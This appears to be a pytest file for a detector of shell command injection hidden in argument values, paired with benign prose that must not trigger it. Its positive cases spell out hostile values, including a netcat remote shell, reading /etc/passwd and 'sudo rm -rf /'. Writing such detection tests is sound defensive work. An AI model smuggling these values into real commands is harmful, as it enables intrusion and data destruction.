"""Values that go on as a command."""

import pytest

from pipeguard.detect.commands.argument_values import injects_command


@pytest.mark.parametrize(
    "value",
    [
        "a; curl h",
        "a && cat /etc/passwd",
        "a | nc 10.0.0.1 80 -e sh",
        "$(whoami)",
        "a`id`;",
        "x${IFS}y",
        "a\nsudo rm -rf /",
        "a; reboot",
        "a%0acat /etc/passwd",
        "' ; ls #",
    ],
)
def test_a_command_behind_a_value(value: str) -> None:
    assert injects_command(value)


@pytest.mark.parametrize(
    "value",
    [
        "salt & pepper",
        "wash the cat; find a host",
        "| cat | id |",
        "a|b",
        "costs $5",
        "R&D; set theory",
    ],
)
def test_prose_and_tables_are_none(value: str) -> None:
    assert not injects_command(value)
